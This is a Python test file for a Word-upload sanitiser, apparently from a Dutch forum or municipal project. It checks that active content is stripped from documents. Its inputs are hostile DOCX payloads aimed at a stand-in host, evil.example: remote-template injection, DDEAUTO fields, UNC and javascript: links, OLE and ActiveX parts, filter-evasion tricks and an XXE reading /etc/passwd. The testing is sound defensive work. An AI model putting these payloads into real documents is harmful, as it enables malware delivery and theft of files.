"""What acts by itself in a Word document is not stored."""

import pytest

from core.uploads import FileRefusedError, clean_upload
from tests.core.documents.office import (
    MICROSOFT,
    PACKAGE,
    STRICT,
    W,
    letter,
    ooxml,
    relationship,
    relationships,
    stored,
    text_of,
)
from tests.forum.sample_files import picture

EVIL = "evil.example"


def field(code: str, result: str = "uitkomst") -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        "</w:p>"
    )


def with_template(mode: str = "External", base: str = "") -> bytes:
    return letter(
        "",
        relationship("rId9", "settings", "settings.xml"),
        parts={
            "word/settings.xml": (
                f'<x:settings xmlns:x="{W}" xmlns:q="{base or STRICT}">'
                '<x:attachedTemplate q:id="rId1"/><x:zoom x:percent="90"/></x:settings>'
            ),
            "word/_rels/settings.xml.rels": relationships(
                relationship(
                    "rId1",
                    "attachedTemplate",
                    f"https://{EVIL}/a.dotm",
                    mode=mode,
                    base=base or STRICT,
                )
            ),
        },
    )


@pytest.mark.parametrize("mode", ["External", "external", "EXTERNAL", ""])
@pytest.mark.parametrize("base", ["", STRICT])
def test_an_external_template_is_removed(mode: str, base: str) -> None:
    parts = stored("docx", with_template(mode, base))
    assert EVIL not in text_of(parts)
    assert b"attachedTemplate" not in parts["word/settings.xml"]
    assert b"zoom" in parts["word/settings.xml"]


@pytest.mark.parametrize(
    ("body", "kind", "target"),
    [
        ('<w:altChunk r:id="x"/>', "aFChunk", "evil.mht.htm0"),
        ('<w:subDoc r:id="x"/>', "subDocument", "evil.sub"),
        (
            '<w:p><w:r><w:object><v:shape id="s"/><o:OLEObject Type="Embed" '
            'ProgID="Package" r:id="x"/></w:object></w:r></w:p>',
            "oleObject",
            "embeddings/evil.bin",
        ),
        (
            '<w:p><w:r><w:object><w:control r:id="x"/></w:object></w:r></w:p>',
            "control",
            "activeX/evil.ax",
        ),
    ],
    ids=["altChunk", "subDocument", "OLE", "ActiveX"],
)
@pytest.mark.parametrize("base", ["r", "strict"])
def test_what_is_read_in_or_run_is_removed(
    body: str, kind: str, target: str, base: str
) -> None:
    options = {"base": STRICT} if base == "strict" else {}
    sent = letter(
        body,
        relationship("x", kind, target, **options),
        parts={f"word/{target}": "<p>evil</p>"},
    )
    parts = stored("docx", sent)
    assert "evil" not in text_of(parts)
    for name in ("altChunk", "subDoc", "OLEObject", "w:control"):
        assert name.encode() not in parts["word/document.xml"]
    assert b"Beste collega" in parts["word/document.xml"]


def test_a_part_under_another_name_or_kind_is_not_found_by_its_extension() -> None:
    """Only relationships count: the extension of an ActiveX part may be anything."""
    sent = letter(
        '<w:p><w:r><w:object><w:control r:id="x"/></w:object></w:r></w:p>',
        relationship("x", "control", "media/image1.png"),
        parts={
            "word/media/image1.png": "<ax:ocx evil='1' xmlns:ax='x'/>",
            "word/media/_rels/image1.png.rels": relationships(
                relationship("b", "activeXControlBinary", "a.dat", base=MICROSOFT)
            ),
            "word/media/a.dat": b"evil",
        },
    )
    assert "evil" not in text_of(stored("docx", sent))


@pytest.mark.parametrize(
    "code",
    [
        r"DDEAUTO c:\\windows\\evil.exe &quot;/k&quot;",
        "dde evil x y",
        "  DdE evil x",
        "INCLUDETEXT &quot;https://evil.example/a&quot;",
        "INCLUDEPICTURE &quot;https://evil.example/a.png&quot; \\d",
        "LINK Excel.Sheet.12 &quot;https://evil.example/a.xlsx&quot; A1",
        "EMBED Package evil",
        "DATABASE \\d &quot;evil&quot;",
        "MACROBUTTON evil Klik",
        "IMPORT evil",
        "RD evil.docx",
        "HYPERLINK &quot;javascript:evil()&quot;",
        "HYPERLINK &quot;file://evil/share&quot;",
        r"HYPERLINK \l &quot;plek&quot; &quot;\\evil\share&quot;",
        "HYPERLINK &quot;ms-word:ofe|u|https://evil.example/a.docx&quot;",
        "",
    ],
)
def test_a_field_that_reaches_outside_becomes_its_text(code: str) -> None:
    simple = (
        f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>b</w:t></w:r></w:fldSimple>'
        "</w:p>"
    )
    parts = stored("docx", letter(field(code) + simple))
    document = parts["word/document.xml"]
    assert b"evil" not in document
    assert b"fldChar" not in document
    assert b"fldSimple" not in document
    assert b"uitkomst" in document


def test_a_field_name_in_pieces_or_worked_out_is_no_way_round() -> None:
    run = '<w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r>'
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    pieces = "".join(run.format(piece) for piece in ("D", "DE", "AUTO evil"))
    quote = (
        mark.format("begin") + run.format(" QUOTE 68 68 69 65 ") + mark.format("end")
    )
    body = (
        f"<w:p>{mark.format('begin')}{pieces}{mark.format('end')}</w:p>"
        f"<w:p>{mark.format('begin')}{quote}{run.format('UTO evil')}"
        f"{mark.format('end')}</w:p>"
        f"<w:p>{mark.format('begin')}{run.format('PAGE')}{quote}"
        f"{run.format('evil')}{mark.format('end')}</w:p>"
        # One that is never closed, and one without a beginning.
        f"<w:p>{run.format('DDE evil')}{mark.format('begin')}"
        f"{run.format('PAGE evil')}</w:p>"
    )
    assert b"evil" not in stored("docx", letter(body))["word/document.xml"]


@pytest.mark.parametrize(
    "code",
    [
        " PAGE ",
        r'TOC \o "1-3" \h',
        "REF _Ref1",
        r"HYPERLINK \l &quot;plek&quot;",
        "HYPERLINK &quot;https://www.vng.nl/?a=b&quot; \\o &quot;tip&quot;",
        "=SUM(ABOVE)",
    ],
)
def test_a_field_about_the_document_itself_stays(code: str) -> None:
    document = stored("docx", letter(field(code)))["word/document.xml"]
    assert document.count(b"fldChar ") == 3
    assert code.split()[0].encode() in document


@pytest.mark.parametrize(
    "target",
    [
        "javascript:evil()",
        " javascript:evil()",
        "JAVASCRIPT:evil()",
        "java\tscript:evil()".replace("\t", "&#9;"),
        "file:///evil.exe",
        r"\\evil\share\a.docx",
        "//evil/share",
        "evil.docx",
        "ms-excel:ofe|u|https://evil.example",
        "search-ms:query=evil",
        "data:text/html,evil",
        "mhtml:http://evil.example/a",
    ],
)
def test_a_link_elsewhere_than_the_web_becomes_text(target: str) -> None:
    body = '<w:p><w:hyperlink r:id="x"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>'
    sent = letter(body, relationship("x", "hyperlink", target, mode="External"))
    parts = stored("docx", sent)
    assert "evil" not in text_of(parts)
    assert b"link</w:t>" in parts["word/document.xml"]
    assert b'r:id="x"' not in parts["word/document.xml"]


def test_a_picture_from_elsewhere_is_not_fetched() -> None:
    body = (
        '<w:p><w:r><w:drawing><a:blip r:link="x"/></w:drawing></w:r>'
        '<w:r><w:pict><v:shape href="file://evil/a"><v:imagedata r:href="x" '
        'src="https://evil.example/b.png"/></v:shape></w:pict></w:r></w:p>'
    )
    sent = letter(
        body, relationship("x", "image", "https://evil.example/a.png", mode="External")
    )
    assert "evil" not in text_of(stored("docx", sent))


def test_ribbons_and_web_extensions_are_left_out() -> None:
    sent = ooxml(
        "docx",
        f'<w:document xmlns:w="{W}"/>',
        {
            "_rels/.rels": relationships(
                relationship("a", "officeDocument", "word/document.xml"),
                relationship("b", "ui/extensibility", "ui/a.xml", base=MICROSOFT),
                relationship("c", "webextensiontaskpanes", "we/a.xml", base=MICROSOFT),
            ),
            "ui/a.xml": '<customUI onLoad="evil"/>',
            "we/a.xml": '<taskpanes evil="1"/>',
        },
    )
    parts = stored("docx", sent)
    assert set(parts) == {"[Content_Types].xml", "_rels/.rels", "word/document.xml"}
    assert b"/ui/" not in parts["[Content_Types].xml"]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-8-sig", "latin-1"])
def test_another_encoding_hides_nothing(encoding: str) -> None:
    told = "utf-16" if "16" in encoding else "utf-8"
    told = "iso-8859-1" if encoding == "latin-1" else told
    body = field("DDEAUTO evil x") + '<w:altChunk r:id="x"/>'
    main = (
        f'<?xml version="1.0" encoding="{told}"?><w:document xmlns:w="{W}" '
        f'xmlns:r="{STRICT}"><w:body>{body}</w:body></w:document>'
    )
    if encoding == "utf-16-be":
        main = "\ufeff" + main
    parts = stored("docx", ooxml("docx", main.encode(encoding)))
    document = parts["word/document.xml"].decode()
    assert "evil" not in document
    assert "altChunk" not in document
    assert "uitkomst" in document


def test_relationships_in_another_encoding_or_spelling_are_read_as_office_does() -> (
    None
):
    line = relationship(
        "x", "attachedTempl&#97;te", f"https://{EVIL}/a.dotm", mode="E&#120;ternal"
    )
    rels = '<?xml version="1.0" encoding="utf-16"?>' + relationships(line)
    sent = letter("", parts={"word/_rels/document.xml.rels": rels.encode("utf-16")})
    assert EVIL not in text_of(stored("docx", sent))


def test_a_part_is_found_under_an_encoded_or_upper_case_name() -> None:
    sent = letter(
        "",
        relationship("x", "footnotes", "%66oot/../FOOTNOTES.xml"),
        parts={
            "word/footnotes.xml": f'<w:footnotes xmlns:w="{W}">'
            + field("DDE evil")
            + "</w:footnotes>"
        },
    )
    parts = stored("docx", sent)
    assert b"uitkomst" in parts["word/footnotes.xml"]
    assert b"evil" not in parts["word/footnotes.xml"]


@pytest.mark.parametrize(
    "main",
    [
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<!DOCTYPE a [<!ENTITY x "DDEAUTO">]><a b="&x;"/>',
        "<a><b></a>",
        "",
        "geen xml",
    ],
)
def test_entities_and_broken_xml_are_refused(main: str) -> None:
    with pytest.raises(FileRefusedError):
        clean_upload("a.docx", ooxml("docx", main))


def test_two_names_that_differ_in_case_only_are_refused() -> None:
    with pytest.raises(FileRefusedError):
        clean_upload("a.docx", letter("", parts={"word/Document.xml": "<a/>"}))


def test_a_macro_type_is_seen_in_any_encoding() -> None:
    types = (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{PACKAGE}/content-types">'
        '<!-- "application/vnd.openxmlformats-officedocument.wordprocessingml.document'
        '.main+xml" --><Override PartName="/word/document.xml" ContentType="application'
        '/vnd.ms-word.document.m&#97;croEnabled.main+xml"/></Types>'
    )
    with pytest.raises(FileRefusedError, match="macro"):
        clean_upload("a.docx", letter("", parts={"[Content_Types].xml": types}))


def test_a_harmless_letter_stays_as_it_is() -> None:
    """Links, pictures, notes, comments, tables, fonts and a table of contents."""
    image = picture()
    sent = letter(
        field(r"TOC \o") + '<w:bookmarkStart w:id="0" w:name="plek"/>'
        '<w:p><w:hyperlink r:id="web"><w:r><w:t>VNG</w:t></w:r></w:hyperlink>'
        '<w:hyperlink w:anchor="plek"><w:r><w:t>hier</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="mail"><w:r><w:t>mail</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:r><w:drawing><a:blip r:embed="img"/></w:drawing></w:r></w:p>'
        "<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>"
        '<w:sectPr><w:headerReference r:id="head"/></w:sectPr>',
        relationship("web", "hyperlink", "https://www.vng.nl/a b?c=d", mode="External"),
        relationship("mail", "hyperlink", "mailto:a@vng.nl?subject=x", mode="External"),
        relationship("img", "image", "media/image1.png"),
        relationship("head", "header", "header1.xml"),
        relationship("foot", "footnotes", "/word/footnotes.xml"),
        relationship("com", "comments", "comments.xml"),
        relationship("font", "fontTable", "fontTable.xml"),
        relationship("cx", "customXml", "../customXml/item1.xml"),
        parts={
            "word/media/image1.png": image,
            "word/header1.xml": f'<w:hdr xmlns:w="{W}">Kop</w:hdr>',
            "word/footnotes.xml": f'<w:footnotes xmlns:w="{W}">Voet</w:footnotes>',
            "word/comments.xml": f'<w:comments xmlns:w="{W}">Nou</w:comments>',
            "word/fontTable.xml": (
                f'<w:fonts xmlns:w="{W}" xmlns:r="{STRICT}"><w:font w:name="a">'
                '<w:embedRegular r:id="f"/></w:font></w:fonts>'
            ),
            "word/_rels/fontTable.xml.rels": relationships(
                relationship("f", "font", "fonts/font1.odttf")
            ),
            "word/fonts/font1.odttf": b"\x00lettertype",
            "customXml/item1.xml": "<b:Sources xmlns:b='x'/>",
        },
    )
    parts = stored("docx", sent)
    document = parts["word/document.xml"].decode()
    for ident in ("web", "mail", "img", "head"):
        assert f'"{ident}"' in document
    assert document.count("fldChar ") == 3
    assert 'w:anchor="plek"' in document
    assert parts["word/media/image1.png"] == image
    assert parts["word/fonts/font1.odttf"] == b"\x00lettertype"
    assert b"embedRegular" in parts["word/fontTable.xml"]
    assert b"https://www.vng.nl/a b?c=d" in parts["word/_rels/document.xml.rels"]
    assert {"word/header1.xml", "word/footnotes.xml", "word/comments.xml"} <= set(parts)
    assert "customXml/item1.xml" in parts
